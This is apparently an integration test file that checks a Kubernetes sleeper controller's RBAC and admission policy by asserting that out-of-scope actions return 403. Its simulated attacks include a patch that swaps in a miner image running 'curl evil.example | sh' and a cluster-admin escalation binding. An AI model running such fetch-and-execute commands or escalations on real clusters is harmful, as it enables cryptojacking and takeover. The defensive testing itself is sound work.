// The in-cluster sleeper's RBAC and admission policy for real: apply deploy/sleeper, mint a token
// for its ServiceAccount with the TokenRequest API, and run sleeper passes as that identity. What
// it needs works; everything else is refused with 403, including what RBAC alone would allow
// (issue #17, H1 and M1: another image, a label, kube-system, a namespace that is no environment).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import * as k8s from '@kubernetes/client-node';
import { parseAllDocuments } from 'yaml';
import { attachCluster } from '../cluster/cluster.ts';
import { createEnvironmentFixture, createWorkload, eventually } from '../fixtures/environments.ts';
import type { KubeSession } from '../../src/adapters/kube.ts';
import { ProblemEvents, reconcileAll, runSleeper } from '../../src/adapters/sleeper.ts';
import { deleteEnvironment } from '../../src/adapters/environments.ts';
import { loadKubeConfig } from '../../src/adapters/kube.ts';
import { sleepEnvironment, wakeEnvironment } from '../../src/adapters/sleep.ts';

const cluster = attachCluster();
const kc = cluster.kubeConfig();
const core = kc.makeApiClient(k8s.CoreV1Api);
const apps = kc.makeApiClient(k8s.AppsV1Api);
const objects = k8s.KubernetesObjectApi.makeApiClient(kc);
const deployDir = path.join(path.dirname(new URL(import.meta.url).pathname), '..', '..', 'deploy', 'sleeper');
const MANIFESTS = ['namespace.yaml', 'serviceaccount.yaml', 'rbac.yaml', 'admission-policy.yaml', 'deployment.yaml', 'service.yaml'];

const run = `${Date.now().toString(36)}${Math.floor(Math.random() * 1e4).toString(36)}`;
const owner = `rbac-it-${run}`;
const selector = `t-env.dev/owner=${owner}`;
const office = `rbac-it-${run}-office`;
const corrupt = `rbac-it-${run}-corrupt`;
/** Not an environment: the attacks' victim. */
const victim = `rbac-it-${run}-victim`;
const system = 'kube-system';
const systemDeployment = `rbac-it-${run}-coredns`;
const mergePatch = k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch);
// Sunday 12:00 UTC: the office schedule is asleep; Monday 09:00 it is awake.
const sunday = new Date('2026-01-11T12:00:00Z');
const monday = new Date('2026-01-12T09:00:00Z');

function manifests(): k8s.KubernetesObject[] {
  return MANIFESTS.flatMap((file) => parseAllDocuments(fs.readFileSync(path.join(deployDir, file), 'utf8'))
    .map((doc) => doc.toJS() as k8s.KubernetesObject | null)
    .filter((obj): obj is k8s.KubernetesObject => obj !== null));
}

function forbidden(error: unknown): boolean {
  return error instanceof k8s.ApiException && error.code === 403;
}

let sleeper: KubeSession;

describe('the in-cluster sleeper\'s RBAC (deploy/sleeper)', () => {
  before(async () => {
    // Server-side apply: creates the objects, or updates them if an earlier run left them.
    for (const obj of manifests()) await objects.patch(obj, undefined, undefined, 't-env-tests', true, k8s.PatchStrategy.ServerSideApply);
    const { status } = await core.createNamespacedServiceAccountToken({
      namespace: 't-env-system', name: 't-env-sleeper', body: { spec: { audiences: [], expirationSeconds: 600 } },
    });
    const token = status?.token;
    assert.ok(token, 'the TokenRequest API returned a token');
    const saKc = new k8s.KubeConfig();
    saKc.loadFromOptions({
      clusters: [{ name: 'local', server: cluster.server, caFile: path.join(cluster.dir, 'pki', 'ca.crt'), skipTLSVerify: false }],
      users: [{ name: 't-env-sleeper', token }],
      contexts: [{ name: 'sleeper', cluster: 'local', user: 't-env-sleeper' }],
      currentContext: 'sleeper',
    });
    sleeper = { kc: saKc, context: 'sleeper', server: cluster.server };
    const workloads = [{ kind: 'Deployment' as const, name: 'api', replicas: 2 }, { kind: 'StatefulSet' as const, name: 'db', replicas: 1 }, { kind: 'CronJob' as const, name: 'report' }];
    await createEnvironmentFixture(kc, { name: office, owner, timezone: 'Europe/Berlin', awakeHours: 'Mon-Fri 08:00-20:00', workloads });
    await createEnvironmentFixture(kc, { name: corrupt, owner, timezone: 'Europe/Berlin', awakeHours: 'Mon-Fry 08:00-20:00', workloads });
    await core.createNamespace({ body: { metadata: { name: victim } } });
    await createWorkload(kc, victim, { kind: 'Deployment', name: 'payments', replicas: 1 });
    await createWorkload(kc, system, { kind: 'Deployment', name: systemDeployment, replicas: 1 });
  });

  after(async () => {
    await Promise.all([office, corrupt, victim].map((name) => core.deleteNamespace({ name }).catch(() => undefined)));
    await apps.deleteNamespacedDeployment({ namespace: system, name: systemDeployment }).catch(() => undefined);
    await core.patchNamespace({ name: system, body: { metadata: { labels: { 't-env.dev/environment': null, 't-env.dev/owner': null }, annotations: { 't-env.dev/timezone': null, 't-env.dev/awake-hours': null } } } }, mergePatch).catch(() => undefined);
    for (const obj of manifests().reverse()) await objects.delete(obj).catch(() => undefined);
  });

  it('grants exactly the documented rules', () => {
    const role = manifests().find((o) => o.kind === 'ClusterRole') as k8s.V1ClusterRole;
    assert.deepEqual(role.rules, [
      { apiGroups: [''], resources: ['namespaces'], verbs: ['list', 'patch'] },
      { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['get', 'list', 'patch'] },
      { apiGroups: ['batch'], resources: ['cronjobs'], verbs: ['get', 'list', 'patch'] },
      { apiGroups: [''], resources: ['events'], verbs: ['create'] },
      { apiGroups: ['keda.sh'], resources: ['scaledobjects'], verbs: ['list', 'patch'] },
    ]);
    const deployment = manifests().find((o) => o.kind === 'Deployment') as k8s.V1Deployment;
    assert.deepEqual(deployment.spec?.template.spec?.containers[0]?.args, ['sleeper', '--interval', '60s', '--metrics-port', '9090']);
    assert.equal(deployment.spec?.template.spec?.serviceAccountName, 't-env-sleeper');
    // The metrics: the port the flag opens, scraped by annotation and reachable through the Service.
    assert.deepEqual(deployment.spec?.template.spec?.containers[0]?.ports, [{ name: 'metrics', containerPort: 9090, protocol: 'TCP' }]);
    assert.deepEqual(deployment.spec?.template.metadata?.annotations, { 'prometheus.io/scrape': 'true', 'prometheus.io/port': '9090', 'prometheus.io/path': '/metrics' });
    const service = manifests().find((o) => o.kind === 'Service') as k8s.V1Service;
    assert.deepEqual(service.spec?.ports, [{ name: 'metrics', port: 9090, targetPort: 'metrics', protocol: 'TCP' }]);
    for (const [key, label] of Object.entries(service.spec?.selector ?? {})) assert.equal(deployment.spec?.template.metadata?.labels?.[key], label);
    const kustomization = parseAllDocuments(fs.readFileSync(path.join(deployDir, 'kustomization.yaml'), 'utf8'))[0]!.toJS() as { resources: string[] };
    assert.deepEqual(kustomization.resources, MANIFESTS);
  });

  it('a sleeper pass with the ServiceAccount token sleeps, wakes and reports problems as Events', async () => {
    const problemEvents = new ProblemEvents();
    const warnings: string[] = [];
    // The first request may race the RBAC caches of a just-applied binding.
    const asleep = await eventually('a pass as the sleeper', () => reconcileAll(sleeper, {
      selector, now: sunday, problemEvents, onEvent: (e) => { if (e.type === 'warning') warnings.push(e.message); },
    }));
    assert.deepEqual(warnings, [], 'cluster-wide lists and events were allowed');
    const officeResult = asleep.environments.find((e) => e.name === office);
    assert.deepEqual(officeResult && { action: officeResult.action, changed: officeResult.changed, problems: officeResult.problems }, { action: 'sleep', changed: 3, problems: [] });
    assert.match(asleep.environments.find((e) => e.name === corrupt)?.problems.join() ?? '', /unknown day "Fry"/);
    assert.equal((await apps.readNamespacedDeployment({ namespace: office, name: 'api' })).spec?.replicas, 0);
    const events = await core.listNamespacedEvent({ namespace: corrupt, fieldSelector: 'reason=SleepScheduleProblem' });
    assert.equal(events.items.length, 1, 'the problem was recorded as an Event');

    const awake = await runSleeper(sleeper, { intervalMs: 60_000, once: true, selector, clock: () => monday });
    assert.equal(awake?.environments.find((e) => e.name === office)?.action, 'wake');
    assert.equal((await apps.readNamespacedDeployment({ namespace: office, name: 'api' })).spec?.replicas, 2);
  });

  it('refuses everything outside its rights with 403', async () => {
    const saCore = sleeper.kc.makeApiClient(k8s.CoreV1Api);
    const saApps = sleeper.kc.makeApiClient(k8s.AppsV1Api);
    const saBatch = sleeper.kc.makeApiClient(k8s.BatchV1Api);
    const saRbac = sleeper.kc.makeApiClient(k8s.RbacAuthorizationV1Api);
    const attempts: [string, () => Promise<unknown>][] = [
      ['delete a namespace', () => saCore.deleteNamespace({ name: office })],
      ['create a namespace', () => saCore.createNamespace({ body: { metadata: { name: `${office}-x` } } })],
      ['create a secret', () => saCore.createNamespacedSecret({ namespace: office, body: { metadata: { name: 'stolen' }, stringData: { a: 'b' } } })],
      ['read secrets', () => saCore.listNamespacedSecret({ namespace: office })],
      ['read secrets cluster-wide', () => saCore.listSecretForAllNamespaces()],
      ['read config maps', () => saCore.listNamespacedConfigMap({ namespace: office })],
      ['list pods', () => saCore.listNamespacedPod({ namespace: office })],
      ['read a pod', () => saCore.readNamespacedPod({ namespace: office, name: 'any' })],
      ['delete a deployment', () => saApps.deleteNamespacedDeployment({ namespace: office, name: 'api' })],
      ['create a deployment', () => saApps.createNamespacedDeployment({ namespace: office, body: { metadata: { name: 'x' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'x', image: 'x' }] } } } } })],
      ['update (PUT) a deployment', async () => saApps.replaceNamespacedDeployment({ namespace: office, name: 'api', body: await apps.readNamespacedDeployment({ namespace: office, name: 'api' }) })],
      ['patch the scale subresource', () => saApps.patchNamespacedDeploymentScale({ namespace: office, name: 'api', body: { spec: { replicas: 9 } } }, k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch))],
      ['delete a cronjob', () => saBatch.deleteNamespacedCronJob({ namespace: office, name: 'report' })],
      ['create a job', () => saBatch.createNamespacedJob({ namespace: office, body: { metadata: { name: 'x' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'x', image: 'x' }] } } } } })],
      ['list events', () => saCore.listNamespacedEvent({ namespace: office })],
      ['grant itself more (create a ClusterRoleBinding)', () => saRbac.createClusterRoleBinding({ body: { metadata: { name: 'escalate' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 't-env-sleeper', namespace: 't-env-system' }] } })],
    ];
    for (const [what, attempt] of attempts) {
      await assert.rejects(attempt(), forbidden, `the sleeper may not ${what}`);
    }
    assert.equal((await core.readNamespace({ name: office })).metadata?.deletionTimestamp, undefined);
  });

  it('deletes expired environments only with the opt-in rbac-expiry.yaml; without it, reports the refusal', async () => {
    const expired = `${office}-ttl`;
    await createEnvironmentFixture(kc, { name: expired, owner, annotations: { 't-env.dev/expires-at': '2026-01-12T08:00:00Z' }, workloads: [] });
    const optIn = parseAllDocuments(fs.readFileSync(path.join(deployDir, 'rbac-expiry.yaml'), 'utf8')).map((doc) => doc.toJS() as k8s.KubernetesObject);
    try {
      const outcomes = async (): Promise<string[]> => {
        const seen: string[] = [];
        await reconcileAll(sleeper, { selector, now: monday, onEvent: (e) => { if (e.type === 'expiry' && e.outcome.name === expired) seen.push(`${e.outcome.action}: ${e.outcome.detail}`); } });
        return seen;
      };
      const refused = await outcomes();
      assert.equal(refused.length, 1);
      assert.match(refused[0]!, /^problem: Access denied: you may not delete namespaces/);
      assert.equal((await core.readNamespace({ name: expired })).metadata?.deletionTimestamp, undefined);
      for (const obj of optIn) await objects.patch(obj, undefined, undefined, 't-env-tests', true, k8s.PatchStrategy.ServerSideApply);
      // The RBAC caches may lag a just-applied binding by a moment.
      await eventually('the deletion as the sleeper', async () => (await outcomes()).some((o) => o.startsWith('deleted: expired at 2026-01-12T08:00:00.000Z')));
      await eventually('the namespace terminating or gone', async () => {
        try {
          return (await core.readNamespace({ name: expired })).metadata?.deletionTimestamp !== undefined;
        } catch (error) {
          return error instanceof k8s.ApiException && error.code === 404;
        }
      });
      assert.equal((await core.readNamespace({ name: office })).metadata?.deletionTimestamp, undefined, 'only the expired one');
      // Even with the opt-in right, the admission policy refuses the token deleting an environment without a TTL.
      await assert.rejects(sleeper.kc.makeApiClient(k8s.CoreV1Api).deleteNamespace({ name: office }), (error: unknown) => forbidden(error), 'no TTL, no deletion');
    } finally {
      for (const obj of optIn.reverse()) await objects.delete(obj).catch(() => undefined);
      await core.deleteNamespace({ name: expired }).catch(() => undefined);
    }
  });

  it('the admission policy refuses what RBAC alone would let the token do (H1)', async () => {
    const saCore = sleeper.kc.makeApiClient(k8s.CoreV1Api);
    const saApps = sleeper.kc.makeApiClient(k8s.AppsV1Api);
    const saBatch = sleeper.kc.makeApiClient(k8s.BatchV1Api);
    const image = { spec: { template: { spec: { containers: [{ name: 'payments', image: 'evil.example/miner:1', command: ['sh', '-c', 'curl evil.example | sh'] }] } } } };
    // The policy takes effect once the API server has loaded it.
    await eventually('the policy refuses a change of image', async () => {
      try {
        await saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: image }, mergePatch);
        throw new Error('patched');
      } catch (error) {
        if (forbidden(error)) return true;
        throw error;
      }
    });
    const envApi = { ...image, spec: { template: { spec: { containers: [{ name: 'api', image: 'evil.example/miner:1' }] } } } };
    const attacks: [string, () => Promise<unknown>][] = [
      ['change the image and command of a deployment outside any environment', () => saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: image }, mergePatch)],
      ['scale a deployment outside any environment', () => saApps.patchNamespacedDeployment({ namespace: victim, name: 'payments', body: { spec: { replicas: 0 } } }, mergePatch)],
      ['label a namespace that is no environment privileged', () => saCore.patchNamespace({ name: victim, body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } }, mergePatch)],
      ['label an environment namespace privileged', () => saCore.patchNamespace({ name: office, body: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } }, mergePatch)],
      ['change an environment\'s owner', () => saCore.patchNamespace({ name: office, body: { metadata: { labels: { 't-env.dev/owner': 'mallory' } } } }, mergePatch)],
      ['set a marker on an environment', () => saCore.patchNamespace({ name: office, body: { metadata: { annotations: { 't-env.dev/asleep-until': '9999-12-31T23:59:59.999Z' } } } }, mergePatch)],
      ['change an environment\'s awake hours', () => saCore.patchNamespace({ name: office, body: { metadata: { annotations: { 't-env.dev/awake-hours': 'always' } } } }, mergePatch)],
      ['change the image of a workload in an environment', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: envApi }, mergePatch)],
      ['relabel a workload in an environment', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { labels: { app: 'other' } } } }, mergePatch)],
      ['annotate a workload with something else', () => saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 'example.com/x': 'y' } } } }, mergePatch)],
      ['change a statefulset\'s template', () => saApps.patchNamespacedStatefulSet({ namespace: office, name: 'db', body: { spec: { template: { metadata: { labels: { app: 'db', x: 'y' } } } } } }, mergePatch)],
      ['change a cronjob\'s schedule', () => saBatch.patchNamespacedCronJob({ namespace: office, name: 'report', body: { spec: { schedule: '* * * * *' } } }, mergePatch)],
      ['scale a deployment in kube-system', () => saApps.patchNamespacedDeployment({ namespace: system, name: systemDeployment, body: { spec: { replicas: 0 } } }, mergePatch)],
      ['record an event outside any environment', () => saCore.createNamespacedEvent({ namespace: victim, body: { metadata: { generateName: 'x-' }, involvedObject: { kind: 'Namespace', name: victim, namespace: victim }, reason: 'Fake', message: 'fake', type: 'Warning' } })],
      ['record an event about something else than the namespace', () => saCore.createNamespacedEvent({ namespace: office, body: { metadata: { generateName: 'x-' }, involvedObject: { kind: 'Deployment', name: 'api', namespace: office }, reason: 'Fake', message: 'fake', type: 'Warning' } })],
    ];
    for (const [what, attempt] of attacks) {
      // Refused by one of the policy's rules, not by an expression failing to evaluate.
      await assert.rejects(attempt(), (error: unknown) => forbidden(error) && !/resulted in error/.test(String((error as k8s.ApiException<unknown>).body)), `the sleeper may not ${what}`);
    }
    const payments = await apps.readNamespacedDeployment({ namespace: victim, name: 'payments' });
    assert.equal(payments.spec?.template.spec?.containers[0]?.image, 'registry.example/payments:1');
    assert.equal(payments.spec?.replicas, 1);
    assert.equal((await core.readNamespace({ name: victim })).metadata?.labels?.['pod-security.kubernetes.io/enforce'], undefined);
    // What the sleeper does is still allowed: replicas and its annotation, in one patch.
    await saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 't-env.dev/replicas-before-sleep': '2' } }, spec: { replicas: 0 } } }, mergePatch);
    await saApps.patchNamespacedDeployment({ namespace: office, name: 'api', body: { metadata: { annotations: { 't-env.dev/replicas-before-sleep': null } }, spec: { replicas: 2 } } }, mergePatch);
  });

  it('admits sleep and wake of a baseline that opted in with awake-hours auto, and still refuses everything else there', async () => {
    const managed = `${office}-main`;
    const plain = `${office}-plain`;
    const baseline = (name: string, annotations: Record<string, string>): Promise<unknown> =>
      core.createNamespace({ body: { metadata: { name, labels: { 't-env.dev/baseline': 'true', 't-env.dev/owner': owner }, annotations } } });
    await baseline(managed, { 't-env.dev/awake-hours': 'auto' });
    await baseline(plain, {});
    try {
      await createWorkload(kc, managed, { kind: 'Deployment', name: 'web', replicas: 2 });
      await createWorkload(kc, plain, { kind: 'Deployment', name: 'web', replicas: 2 });
      // No overlay is made from it: `auto` wants it asleep, and the sleeper's token may do that.
      const asleep = await reconcileAll(sleeper, { selector, now: sunday });
      const result = asleep.environments.find((e) => e.name === managed);
      assert.deepEqual(result && { action: result.action, changed: result.changed, problems: result.problems }, { action: 'sleep', changed: 1, problems: [] });
      assert.equal((await apps.readNamespacedDeployment({ namespace: managed, name: 'web' })).spec?.replicas, 0);
      assert.equal(asleep.environments.find((e) => e.name === plain), undefined, 'a baseline without awake hours is not considered');
      const saCore = sleeper.kc.makeApiClient(k8s.CoreV1Api);
      const saApps = sleeper.kc.makeApiClient(k8s.AppsV1Api);
      const attacks: [string, () => Promise<unknown>][] = [
        ['scale a workload of a baseline that did not opt in', () => saApps.patchNamespacedDeployment({ namespace: plain, name: 'web', body: { spec: { replicas: 0 } } }, mergePatch)],
        ['write the ledger of a baseline that did not opt in', () => saCore.patchNamespace({ name: plain, body: { metadata: { annotations: { 't-env.dev/sleep-ledger': '{}' } } } }, mergePatch)],
        ['change the image of a workload in an auto baseline', () => saApps.patchNamespacedDeployment({ namespace: managed, name: 'web', body: { spec: { template: { spec: { containers: [{ name: 'web', image: 'evil.example/miner:1' }] } } } } }, mergePatch)],
        ['change an auto baseline\'s awake hours', () => saCore.patchNamespace({ name: managed, body: { metadata: { annotations: { 't-env.dev/awake-hours': 'always' } } } }, mergePatch)],
        ['set a marker on an auto baseline', () => saCore.patchNamespace({ name: managed, body: { metadata: { annotations: { 't-env.dev/awake-until': '9999-12-31T23:59:59.999Z' } } } }, mergePatch)],
        ['unlabel an auto baseline', () => saCore.patchNamespace({ name: managed, body: { metadata: { labels: { 't-env.dev/baseline': null } } } }, mergePatch)],
        ['delete an auto baseline', () => saCore.deleteNamespace({ name: managed })],
      ];
      for (const [what, attempt] of attacks) {
        await assert.rejects(attempt(), (error: unknown) => forbidden(error) && !/resulted in error/.test(String((error as k8s.ApiException<unknown>).body)), `the sleeper may not ${what}`);
      }
      assert.equal((await apps.readNamespacedDeployment({ namespace: plain, name: 'web' })).spec?.replicas, 2);
      // An overlay of it that should be awake wakes it, again as the sleeper.
      const overlay = `${office}-overlay`;
      await createEnvironmentFixture(kc, { name: overlay, owner, timezone: 'UTC', awakeHours: 'always', annotations: { 't-env.dev/baseline': managed, 't-env.dev/overlay': 'true' }, workloads: [] });
      try {
        const awake = await reconcileAll(sleeper, { selector, now: sunday });
        assert.equal(awake.environments.find((e) => e.name === managed)?.action, 'wake');
        assert.equal((await apps.readNamespacedDeployment({ namespace: managed, name: 'web' })).spec?.replicas, 2);
      } finally {
        await core.deleteNamespace({ name: overlay }).catch(() => undefined);
      }
    } finally {
      await Promise.all([managed, plain].map((name) => core.deleteNamespace({ name }).catch(() => undefined)));
    }
  });

  it('kube-system labelled as an environment with an asleep schedule is left alone (M1)', async () => {
    await core.patchNamespace({ name: system, body: { metadata: {
      labels: { 't-env.dev/environment': 'true', 't-env.dev/owner': owner },
      annotations: { 't-env.dev/timezone': 'Europe/Berlin', 't-env.dev/awake-hours': 'Mon-Fri 08:00-20:00' },
    } } }, mergePatch);
    const warnings: string[] = [];
    const pass = await reconcileAll(sleeper, { selector, now: sunday, onEvent: (e) => { if (e.type === 'warning') warnings.push(e.message); } });
    assert.equal(pass.environments.find((e) => e.name === system), undefined, 'not even considered');
    assert.ok(warnings.some((w) => w.includes(`namespace ${system} is labelled`)), warnings.join('\n'));
    assert.equal((await apps.readNamespacedDeployment({ namespace: system, name: systemDeployment })).spec?.replicas, 1);
    // The same refusal for sleep, wake and delete from the CLI's adapters, as the cluster admin.
    const admin = loadKubeConfig({ kubeconfig: cluster.kubeconfigPath });
    await assert.rejects(sleepEnvironment(admin, system), /belongs to the cluster or to T-Env's sleeper/);
    await assert.rejects(wakeEnvironment(admin, system, { minimumHours: 1 }), /belongs to the cluster or to T-Env's sleeper/);
    await assert.rejects(deleteEnvironment(admin, system), /belongs to the cluster or to T-Env's sleeper/);
    for (const name of ['default', 't-env-system']) await assert.rejects(sleepEnvironment(admin, name), /belongs to the cluster or to T-Env's sleeper/);
    assert.equal((await apps.readNamespacedDeployment({ namespace: system, name: systemDeployment })).spec?.replicas, 1);
  });
});
